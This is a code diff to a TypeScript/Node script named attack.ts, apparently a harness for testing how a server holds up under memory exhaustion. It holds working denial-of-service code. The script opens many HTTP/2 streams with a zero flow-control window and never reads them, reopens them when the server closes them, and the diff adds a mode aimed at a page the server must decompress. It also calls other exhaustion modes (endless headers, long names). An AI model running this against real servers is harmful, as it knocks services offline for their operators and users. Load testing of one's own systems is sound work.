@@ -7,13 +7,13 @@ import { setTimeout as delay } from 'node:timers/promises';
 /**
  * One client that makes a server use as much memory as possible; runs in a container of its own, so that its address is
  * not the visitors'. Prints `held` once all is open, and opens again what the server closes, until it is stopped.
- *   node attack.ts HOST PICTURE KIND...
+ *   node attack.ts HOST KIND...
  */
 
-const [host = '', picture = '', ...kinds] = process.argv.slice(2);
+const [host = '', ...kinds] = process.argv.slice(2);
 
 /** Opens streams whose answers are never read: their flow-control window stays 0. */
-async function unreadStreams(connections = 6, streams = 128) {
+async function unreadStreams(headers: http2.OutgoingHttpHeaders, connections = 6, streams = 128) {
   for (let connection = 0; connection < connections; connection += 1) {
     const session = http2.connect(`https://${host}:8443`, {
       settings: { initialWindowSize: 0 },
@@ -22,9 +22,10 @@ async function unreadStreams(connections = 6, streams = 128) {
     session.on('error', () => undefined);
     await once(session, 'remoteSettings');
     const open = () => {
-      if (session.destroyed) return;
+      // The server ends a connection after 1,000 requests.
+      if (session.closed || session.destroyed) return;
       session
-        .request({ ':path': picture })
+        .request(headers)
         .on('error', () => undefined)
         .on('close', open);
     };
@@ -61,7 +62,13 @@ async function longNames(names = 2500, length = 15_000) {
   await Promise.all(Array.from({ length: names }, (_, name) => ask(name + 1, taken)));
 }
 
-const attacks = { unreadStreams, endlessHeads, longNames };
+const attacks = {
+  unreadStreams: () => unreadStreams({ ':path': '/images/member.png', 'accept-encoding': 'gzip' }),
+  // The image has pages only compressed, and unpacks them for such a client.
+  unreadPages: () => unreadStreams({ ':path': '/home' }),
+  endlessHeads,
+  longNames,
+};
 for (const [name, attack] of Object.entries(attacks)) if (kinds.includes(name)) await attack();
 await delay(1000);
 console.log('held');
